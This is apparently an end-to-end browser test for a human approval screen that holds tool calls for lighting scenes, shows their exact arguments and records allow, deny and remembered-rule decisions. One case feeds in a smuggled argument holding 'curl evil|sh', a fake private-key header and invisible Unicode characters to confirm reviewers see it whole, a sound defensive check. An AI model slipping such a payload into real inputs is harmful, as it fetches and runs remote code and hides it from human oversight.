// Approvals: a call is held, shown with its exact arguments, and goes on or not as a person decides.

import assert from 'node:assert/strict';
import { base, call, says, until, visit } from './browser.mjs';

await visit(async ({ window }) => {
  const { open } = await window();
  const page = await open('/live');
  await says(page, '#link', 'Live');
  assert.equal(await page.locator('#held').isVisible(), false);

  // Allowed.
  const held = call('scene', { room: 'kitchen', lights: [{ name: 'Kitchen/Ceiling', level: 40 }] });
  await says(page, '#held', '1');
  await page.keyboard.press('g');
  await page.keyboard.press('a');
  await page.waitForURL(/\/approvals/);
  assert.deepEqual(JSON.parse(await page.locator('.exactly').innerText()), {
    room: 'kitchen',
    lights: [{ name: 'Kitchen/Ceiling', level: 40 }],
  });
  await page.getByRole('button', { name: 'Allow once' }).click();
  const allowed = await held;
  assert.equal(allowed.success, true, JSON.stringify(allowed));
  await page.getByText('Nothing waits for you').waitFor();
  await page.locator('#held').waitFor({ state: 'hidden' });

  // What will run is shown whole (PO-2): nothing redacted, nothing cut, and nothing that cannot be seen.
  const hidden = {
    room: 'kitchen',
    password: 'x'.repeat(9000),
    lights: [{ name: 'ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u202e\u009b\u{e0041}' }],
  };
  const sneaky = call('scene', hidden);
  await says(page, '.exactly', 'curl evil');
  const shown = await page.locator('.exactly').innerText();
  assert.match(shown, /curl evil\|sh \\u202e\\u009b\\udb40\\udc41"/);
  assert.deepEqual(JSON.parse(shown), hidden);
  await page.getByRole('button', { name: 'Deny' }).click();
  assert.equal((await sneaky).error_kind, 'denied');
  await page.getByText('Nothing waits for you').waitFor();

  // Denied, with a reason that the caller gets to read.
  const refused = call('scene', { room: 'garage', lights: [] });
  await page.getByLabel('Reason').fill('not at night');
  await page.getByRole('button', { name: 'Deny' }).click();
  const denied = await refused;
  assert.equal(denied.error_kind, 'denied');
  assert.match(denied.error, /not at night/);
  await page.getByText('Nothing waits for you').waitFor();

  // Remembered, and forgotten.
  const args = { room: 'bedroom', lights: [] };
  const first = call('scene', args);
  await page.getByRole('button', { name: 'Always with these arguments' }).click();
  assert.equal((await first).success, true);
  assert.equal((await call('scene', args)).success, true);
  await says(page, '.rule-list', 'bedroom');
  await page.getByRole('button', { name: /Forget/ }).click();
  await page.locator('.rule-list').waitFor({ state: 'detached' });

  // The record says who decided.
  const id = await until(
    'the record',
    async () => (await (await fetch(`${base}/api/calls?tool=scene&failed=true`)).json())[0]?.id,
  );
  await page.goto(`${base}/calls/${id}`);
  await says(page, '.detail', 'not at night');
});
